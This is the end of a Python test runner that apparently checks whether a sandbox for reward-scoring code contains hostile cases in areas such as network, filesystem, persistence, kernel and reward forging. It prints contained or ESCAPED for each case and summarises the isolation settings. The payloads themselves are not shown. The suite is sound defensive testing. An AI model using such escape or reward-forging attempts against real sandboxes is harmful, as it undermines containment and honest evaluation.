        prog("machine_state", name, code, lambda r, c: "ESCAPED" not in r.stdout and r.stdout != "")
        for name, code in hms.SINGLE.items()
    ]
    + [Case("reward_forging", "code_game_reads_machine_state", _machine_game)]
)

CASES = (
    NETWORK
    + FS_READ
    + FS_WRITE
    + PERSISTENCE
    + PROCESSES
    + RESOURCES
    + SOCKETS
    + KERNEL
    + FORGING
    + KERNEL_STATE
    + MACHINE_STATE
)


@dataclass(frozen=True)
class Outcome:
    area: str
    name: str
    contained: bool
    evidence: str


def suite_launcher() -> Launcher:
    """The default (strict) sandbox; where this user is refused it (no cgroup of its own), the level a
    recipe opts into by name, ``rlimits``: the suite then shows what that level holds."""
    try:
        return detect()
    except SandboxUnavailable as e:
        print(f"isolation = strict refused here: {e}", file=sys.stderr)
        set_level("rlimits")  # for the rewards' shared pool too, as the recipe setting would
        return detect()


def run_suite(
    workers: int = 4, launcher: Launcher | None = None, areas: tuple[str, ...] = ()
) -> tuple[list[Outcome], Launcher]:
    launcher = launcher or suite_launcher()
    ctx = Ctx(launcher, Path(tempfile.mkdtemp(prefix="pippa-hostile-")))
    try:
        ctx.setup()

        def one(case: Case) -> Outcome:
            try:
                ok, evidence = case.run(ctx)
            except Exception as e:  # a crash in the driver is not containment
                ok, evidence = False, f"driver error {type(e).__name__}: {e}"
            return Outcome(case.area, case.name, ok, evidence)

        with ThreadPoolExecutor(workers) as ex:
            outcomes = list(
                ex.map(
                    one, [c for c in CASES if not areas or c.area in areas or f"{c.area}/{c.name}" in areas]
                )
            )
    finally:
        ctx.close()
    return outcomes, launcher


def summary(outcomes: list[Outcome], launcher: Launcher) -> str:
    bad = sum(not o.contained for o in outcomes)
    iso = launcher.isolation
    return (
        f"{len(outcomes) - bad} contained, {bad} escaped ({iso.mode}, isolation = {iso.level}, uid "
        f"{os.geteuid()}, memory cap {iso.memory_cap}, process cap {iso.pids_cap}, "
        f"{'seccomp on' if iso.seccomp else 'NO seccomp'})"
    )


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--json", action="store_true", help="one JSON object instead of lines")
    ap.add_argument("--workers", type=int, default=4)
    ap.add_argument("--only", action="append", default=[], help="an area or area/name to run (repeatable)")
    args = ap.parse_args()
    outcomes, launcher = run_suite(args.workers, areas=tuple(args.only))
    if args.json:
        print(
            json.dumps(
                {
                    "summary": summary(outcomes, launcher),
                    "mode": launcher.isolation.mode,
                    "level": launcher.isolation.level,
                    "memory_cap": launcher.isolation.memory_cap,
                    "outcomes": [o.__dict__ for o in outcomes],
                }
            )
        )
    else:
        for o in outcomes:
            print(f"{'contained' if o.contained else 'ESCAPED  '} {o.area:15} {o.name:28} {o.evidence[:150]}")
        print(summary(outcomes, launcher))
    return 0 if all(o.contained for o in outcomes) else 1


if __name__ == "__main__":
    sys.exit(main())
